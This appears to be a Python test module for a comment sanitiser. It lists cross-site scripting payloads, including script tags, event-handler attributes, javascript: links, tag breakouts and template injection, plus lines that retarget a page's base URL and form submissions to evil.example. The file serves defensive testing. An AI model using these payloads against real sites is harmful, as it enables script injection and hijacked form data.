"""Hostile texts, and what must be true of any page that shows one: judged in a parsed document, as a browser judges."""

import json
import re

from lxml import html

from comments import wording

# A small corpus of our own, so that something is always tried; the large one lies beside the project.
OWN = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "'-alert(1)-'",
    '<a href="javascript:alert(1)">x</a>',
    "javascript:alert(1)",
    'https://example.org/"onmouseover="alert(1)',
    "https://example.org/<script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</article></li></ol></section><h1>Owned</h1>",
    "<!--><script>alert(1)</script>-->",
    "{{ 7|add:7 }} {% csrf_token %}",
    "> quoted <b>loudly</b>\n>> and again",
    "*<i>stars</i>* and *unclosed",
    "&lt;script&gt; &amp;lt; &#60;script&#62;",
    "<style>*{display:none}</style><base href=//evil.example>",
    "<form id=act action=//evil.example><button form=act formaction=//evil.example>",
    "\u202eright to left\u202c \u2066isolated\u2069 \u200bzero",
    "a" * 400,
    "http://例え.テスト/путь?q=שלום",
]

ALLOWED = {"p", "br", "blockquote", "em", "a"}
ALLOWED_ATTRIBUTES = {"a": {"href", "rel"}, "p": {"dir"}, "blockquote": {"dir"}}


def texts_of(shared_data, *names):
    """The texts of files of the shared collection."""
    found = []
    for name in names:
        for line in (shared_data / "hostile-text" / name).read_text(encoding="utf-8").split("\n"):
            if not line:
                continue
            row = json.loads(line)
            found.append(row.get("payload") or row.get("string") or row.get("word"))
    return [text for text in found if text and wording.objection(wording.clean(text)) is None]


def sanitisers_texts(shared_data):
    """What HTML sanitisers are tested with, of the shared collection, as somebody might type it into any field."""
    lines = (shared_data / "sanitiser" / "cases.jsonl").read_text(encoding="utf-8").strip().split("\n")
    return [json.loads(line)["input"] for line in lines]


def assert_harmless(body):
    """A comment's body holds nothing but what readers' text may become."""
    for element in body.iterdescendants():
        assert element.tag in ALLOWED, html.tostring(element)
        assert set(element.attrib) <= ALLOWED_ATTRIBUTES.get(element.tag, set()), html.tostring(element)
        if element.tag == "a":
            # An address that no browser could open loses its link and stays as words.
            assert re.match(r"https?://", element.get("href", "https://"), re.IGNORECASE), element.get("href")
            assert element.get("rel") == "nofollow ugc noopener"


def letters(text):
    """A text without what plain text's few habits take away: white space, stars, quotation marks of a line."""
    return re.sub(r"[\s*>\x00-\x1f\x7f\ufffd\ufffe\uffff\x80-\x9f]", "", text)
